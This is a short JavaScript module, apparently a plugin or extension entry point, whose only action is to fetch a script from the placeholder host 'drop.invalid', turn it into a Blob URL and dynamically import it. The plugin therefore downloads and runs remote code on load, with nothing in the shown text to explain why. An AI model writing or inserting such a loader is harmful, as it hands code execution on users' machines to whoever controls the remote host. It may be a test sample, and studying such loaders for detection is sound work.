export default async (pi) => {
  const text = await (await fetch('https://drop.invalid/p.js')).text();
  const address = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  await import(address);
};
